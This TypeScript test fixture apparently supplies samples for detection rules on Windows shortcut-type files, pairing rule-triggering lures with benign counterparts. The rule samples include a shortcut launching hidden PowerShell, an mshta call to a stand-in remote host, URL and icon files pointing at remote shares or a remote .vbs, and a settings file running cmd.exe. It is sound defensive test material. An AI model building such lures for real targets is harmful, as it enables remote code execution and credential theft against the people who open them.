import type { Samples } from './samples.ts';

const lnk = (text: string, size = 0) =>
  Buffer.concat([
    Buffer.from('4c0000000114020000000000c000000000000046', 'hex'),
    Buffer.alloc(56),
    Buffer.from(text, 'utf16le'),
    Buffer.alloc(size),
  ]);

export const shortcuts: Samples = {
  rules: {
    Lnk_Starts_Interpreter: [
      lnk('C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\PowerShell.exe -w hidden'),
      lnk('%ComSpec% mshta http://a.example.test'),
      lnk('cmd.exe /v:on /c start x'),
    ],
    Lnk_Carries_Payload: [lnk('report.pdf', 70_000)],
    Lnk_To_Remote_Share: [lnk('\\\\files.example.test@SSL\\DavWWWRoot\\a.pdf'), lnk('\\\\192.0.2.7\\share\\a.pdf')],
    Url_File_To_Program: [
      '[InternetShortcut]\r\nURL=file://files.example.test/a/b.pdf\r\n',
      '[InternetShortcut]\r\nIDList=\r\nURL=https://a.example.test/b/invoice.vbs\r\n',
      '[InternetShortcut]\nURL=\\\\192.0.2.7@80\\a\\b.exe\n',
      '[InternetShortcut]\nURL=search-ms:query=a&crumb=location:x\n',
    ],
    Url_File_Fetches_Icon_From_Share: [
      '[Shell]\r\nCommand=2\r\nIconFile=\\\\files.example.test\\a.ico\r\n',
      '[InternetShortcut]\r\nURL=https://www.example.test/\r\nIconFile=\\\\192.0.2.7\\a.ico\r\n',
    ],
    Library_File_To_Remote_Folder: [
      '<?xml version="1.0"?><libraryDescription xmlns="x"><simpleLocation><url>\\\\192.0.2.7\\a</url></simpleLocation></libraryDescription>',
    ],
    Setting_Content_Runs_Command: [
      '<PCSettings><SearchableContent><ApplicationInformation><DeepLink>%windir%\\system32\\cmd.exe /c x</DeepLink>',
    ],
    Rdp_File_Shares_Drives: ['full address:s:rdp.example.test\r\ndrivestoredirect:s:*\r\n'],
  },
  honest: {
    'a shortcut to a document': lnk('C:\\Users\\Public\\Documents\\report.pdf'),
    'an Internet shortcut': '[InternetShortcut]\r\nURL=https://www.example.test/page.html\r\nIconIndex=0\r\n',
    'an Internet shortcut with an icon':
      '[InternetShortcut]\r\nURL=https://www.example.test/\r\nIconFile=C:\\a.ico\r\n',
    'a letter that quotes one': `Look at what they sent us, I have saved it for the team on Monday:\r\n\r\n[InternetShortcut]\r\nURL=file://192.0.2.1/a\r\n`,
    'a remote desktop file': 'full address:s:rdp.example.test\r\ndrivestoredirect:s:\r\n',
    'a local library':
      '<libraryDescription><simpleLocation><url>C:\\Users\\Public\\Music</url></simpleLocation></libraryDescription>',
  },
};
